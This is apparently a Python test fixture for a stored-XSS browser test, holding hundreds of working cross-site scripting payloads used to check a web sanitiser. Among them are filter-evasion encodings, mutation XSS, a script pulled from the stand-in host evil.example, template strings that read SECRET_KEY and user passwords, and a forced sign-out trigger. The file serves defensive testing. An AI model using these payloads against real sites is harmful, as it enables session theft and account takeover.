"""A corpus of stored-XSS payloads for tests/browser/test_stored_xss.py.

Every payload, if it ran, would call `alert`, `confirm`, `prompt` or `print` (the test
replaces them with a recorder) or leave script, an `on…` attribute or a `javascript:` URL in
the page (the test looks for those too). Gathered from the classic families: script tags,
event handlers on many tags, dangerous URL schemes in Markdown links, autolinks and images
(with encodings), SVG and MathML, attribute and tag breakouts, mutation XSS (parser
differentials a sanitiser must survive), CSS vectors, template-injection strings and
Unicode tricks. `payloads()` returns them in a stable order, without duplicates.
"""

# Payloads are quoted verbatim, however long: splitting them would make them harder to audit.
# ruff: noqa: E501

from __future__ import annotations

from collections.abc import Iterator

CALLS = ["alert(1)", "confirm(1)", "prompt(1)", "print()", "top.alert(1)"]

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>confirm(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script src=data:,alert(1)></script>",
    "<script src=//evil.example/x.js></script>",
    '<script type="text/javascript">alert(1)</script>',
    "<script>eval('al'+'ert(1)')</script>",
    "<script>setTimeout('alert(1)')</script>",
    "<script>[].constructor.constructor('alert(1)')()</script>",
    "<script>location='javascript:alert(1)'</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)<!--",
    "<script x>alert(1)</script x>",
    "<script>/*</script><script>*/alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "<script>import('data:text/javascript,alert(1)')</script>",
    "<script type=module>alert(1)</script>",
    '<script>fetch("/")</script>',
]

EVENT_TAGS = [
    "img src=x",
    "image src=x",
    "svg",
    "body",
    "iframe",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "object data=x",
    "embed src=x",
    "a href=#",
    "div",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "form",
    "style",
    "link rel=stylesheet href=x",
    "source src=x",
    "track src=x",
    "table background=x",
    "p",
    "span",
    "math",
    "keygen autofocus",
    "frameset",
]

EVENTS = [
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "onstart",
    "onclick",
    "onbeforetoggle",
    "onfocusin",
]

# Ways to write the same event-handler attribute so a filter looking for one form misses.
ATTRIBUTE_FORMS = [
    "<{tag} {event}=alert(1)>",
    '<{tag} {event}="alert(1)">',
    "<{tag} {event}='alert(1)'>",
    "<{tag}/{event}=alert(1)>",
    "<{tag} {EVENT}=alert`1`>",
    '<{tag} {event}="javascript:alert(1)">',
    "<{tag}\n{event}=alert(1)>",
    "<{tag} {event}=&#97;lert(1)>",
]

DANGEROUS_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "javas&#99;ript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)",
    "javascript:%61lert(1)",
    "\\u006Aavascript:alert(1)",
    "javascript://%0Aalert(1)",
    "javascript://comment%0d%0aalert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav\x00ascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/javascript,alert(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "feed:javascript:alert(1)",
]

URL_CARRIERS = [
    "[click me]({url})",
    "[click me]( {url} )",
    '[click me]({url} "title")',
    "[click me][ref]\n\n[ref]: {url}",
    "![an image]({url})",
    "<{url}>",
    "{url}",
    '<a href="{url}">click me</a>',
    '<img src="{url}">',
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>go</button></form>',
    '<button formaction="{url}">go</button>',
    '<svg><a xlink:href="{url}"><text x="20" y="20">go</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="{url}">go</maction></math>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<base href="{url}">',
    '<meta http-equiv="refresh" content="0;url={url}">',
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text y=20>x</text></a>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/>",
    "<svg><style>@import 'javascript:alert(1)';</style></svg>",
    "<svg><title><![CDATA[</title><script>alert(1)</script>]]></title></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>alert(1)</handler></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<svg><image href=x onerror=alert(1)></svg>",
    "<svg><discard onbegin=alert(1)>",
]

BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "`><img src=x onerror=alert(1)>",
    '"></a><script>alert(1)</script>',
    "</p><script>alert(1)</script><p>",
    "</h1><script>alert(1)</script>",
    "</time><img src=x onerror=alert(1)>",
    "</mark><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "</a><a href=javascript:alert(1)>x</a>",
    '"/><svg onload=alert(1)>',
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "</script><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "*/alert(1)/*",
    '{"x":"</script><script>alert(1)</script>"}',
    "<title>x</title><script>alert(1)</script>",
]

MUTATION_XSS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
    '<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<template><style></template><img src=x onerror=alert(1)></style>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<style><img title="</style><img src=x onerror=alert(1)>"></style>',
    '<a href="&#x6a;avascript:alert(1)">x</a>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<div id="x"><!--</div><img src=x onerror=alert(1)>-->',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    '<? foo="><script>alert(1)</script>">',
    "</><script>alert(1)</script>",
    '<a/href="javascript&colon;alert(1)">x</a>',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    "<img src=x\x00onerror=alert(1)>",
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)>"></svg>',
    "<table><td><style></td><img src=x onerror=alert(1)></style>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<object><param name=src value=javascript:alert(1)></object>",
]

CSS_VECTORS = [
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(x.xml#xss)">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<style>*{x:expression(alert(1))}</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<div style="x:\\65xpression(alert(1))">x</div>',
    '<div style="background-image:url(&#1;javascript:alert(1))">x</div>',
    "<style>@keyframes x{}</style><div style=animation-name:x onanimationstart=alert(1)></div>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover=alert(1)>x</p>',
]

TEMPLATE_INJECTION = [
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% debug %}",
    "{% load static %}{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
    "[[7*7]]",
    "{{$on.constructor('alert(1)')()}}",
    "<div ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</div>",
    '<div hx-get="/" hx-trigger="load" hx-on::after-request="alert(1)">x</div>',
    '<div hx-on:click="alert(1)" hx-trigger="load">x</div>',
    '<div data-hx-on:load="alert(1)">x</div>',
    '<button hx-post="/account/sign-out/" hx-trigger="load">x</button>',
    '<div x-data x-init="alert(1)">x</div>',
    "@{alert(1)}",
    "{{=alert(1)}}",
]

UNICODE_TRICKS = [
    "\u202e<script>alert(1)</script>",
    "\u202egnp.exe\u202d<img src=x onerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<img src=x on\u200berror=alert(1)>",
    "\u2028<script>alert(1)</script>\u2029",
    '<a href="java\u0000script:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="jav\u00e1script:alert(1)">x</a>',
    "\U000e0041<script>alert(1)</script>",
    "<img src=x onerror=\u0061lert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '<img src=x onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">',
    '<a href="&#14;javascript:alert(1)">x</a>',
]

MARKDOWN_TRICKS = [
    "[a](javascript:alert(1) 'x')",
    "[a](<javascript:alert(1)>)",
    "[a](javascript:alert&#40;1&#41;)",
    "[a](j a v a s c r i p t:alert(1))",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    '[a](https://example.org"onmouseover="alert(1))',
    '![a" onerror="alert(1)](x)',
    '![x](x"onerror="alert(1))',
    '[a](#" onclick="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "**<img src=x onerror=alert(1)>**",
    "_<svg onload=alert(1)>_",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "[a]: javascript:alert(1)\n\n[a]",
    '<https://example.org/"><script>alert(1)</script>>',
    "https://example.org/<script>alert(1)</script>",
    'www.example.org/"onmouseover="alert(1)',
    '@"><img src=x onerror=alert(1)>',
    '#"><img src=x onerror=alert(1)>',
    "~~~\n</code><script>alert(1)</script>\n~~~",
]


def _event_handler_payloads() -> Iterator[str]:
    for number, tag in enumerate(EVENT_TAGS):
        for index, event in enumerate(EVENTS):
            form = ATTRIBUTE_FORMS[(number + index) % len(ATTRIBUTE_FORMS)]
            yield form.format(tag=tag, event=event, EVENT=event.upper())


def _url_payloads() -> Iterator[str]:
    for number, url in enumerate(DANGEROUS_URLS):
        for offset in range(5):
            carrier = URL_CARRIERS[(number * 5 + offset) % len(URL_CARRIERS)]
            yield carrier.format(url=url)


def _call_variants() -> Iterator[str]:
    for call in CALLS:
        yield f"<img src=x onerror={call}>"
        yield f"<svg onload={call}>"
        yield f"<script>{call}</script>"
        yield f"[x](javascript:{call})"


def payloads() -> list[str]:
    """Every payload once, in a stable order."""
    seen: dict[str, None] = {}
    for group in (
        SCRIPT_TAGS,
        _event_handler_payloads(),
        _url_payloads(),
        SVG_AND_MATHML,
        BREAKOUTS,
        MUTATION_XSS,
        CSS_VECTORS,
        TEMPLATE_INJECTION,
        UNICODE_TRICKS,
        MARKDOWN_TRICKS,
        _call_variants(),
    ):
        for payload in group:
            seen.setdefault(payload, None)
    return list(seen)
